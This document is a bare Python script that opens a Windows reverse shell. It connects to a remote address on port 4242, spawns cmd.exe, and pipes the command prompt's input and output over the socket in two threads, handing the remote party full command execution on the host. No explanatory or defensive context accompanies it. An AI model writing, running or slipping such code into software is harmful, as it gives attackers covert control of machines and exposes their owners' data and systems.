import socket,threading,subprocess
s=socket.socket();s.connect(('192.0.2.5',4242))
p=subprocess.Popen(['cmd.exe'],stdout=subprocess.PIPE,stderr=subprocess.STDOUT,stdin=subprocess.PIPE)
def a(s,p):
    while True:
        d=s.recv(1024)
        p.stdin.write(d);p.stdin.flush()
def b(s,p):
    while True:
        s.send(p.stdout.read(1))
threading.Thread(target=a,args=[s,p],daemon=True).start()
threading.Thread(target=b,args=[s,p],daemon=True).start()
p.wait()
